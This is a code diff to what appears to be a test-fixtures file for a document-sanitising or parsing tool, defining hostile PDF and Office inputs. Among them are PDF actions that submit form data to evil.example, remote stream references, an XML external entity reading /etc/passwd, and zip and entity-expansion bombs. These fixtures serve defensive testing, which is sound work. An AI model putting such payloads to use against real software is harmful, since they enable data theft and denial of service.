@@ -133,8 +133,6 @@ STARTING = {  # actions that leave the document without a click
         GO_TO, page="/Annots [<</Subtype /Widget /AA <</E <</S /SubmitForm /F (https://evil.example/)>> >> >>]"
     ),
 }
-
-
 LOADING = {  # streams whose content is in another file
     "a page in another file": pdf_of(
         GO_TO, "<</Length 0 /F (//evil.example/a)>>\nstream\n\nendstream", page="/Contents 5 0 R"
@@ -197,9 +195,5 @@ FILE_READ = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/pa
 LATE = FILE_READ.replace("<!DOCTYPE", f"<!--{random.Random(1).randbytes(35_000).hex()}--><!DOCTYPE")
 BOMB = package(word__media__a_dot_bin=bytes(20 * 2**20))
 MANY_PARTS = package(**{f"word__p{number}_dot_xml": "<a/>" for number in range(5_001)})
+TYPES_BOMB = archive(**{"[Content_Types].xml": LAUGHS, "word/document.xml": "<d/>"})
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
-
-
-def with_types(xml: str) -> bytes:
-    """A package whose content types list is `xml`."""
-    return archive(**{"[Content_Types].xml": xml, "word/document.xml": "<d/>"})
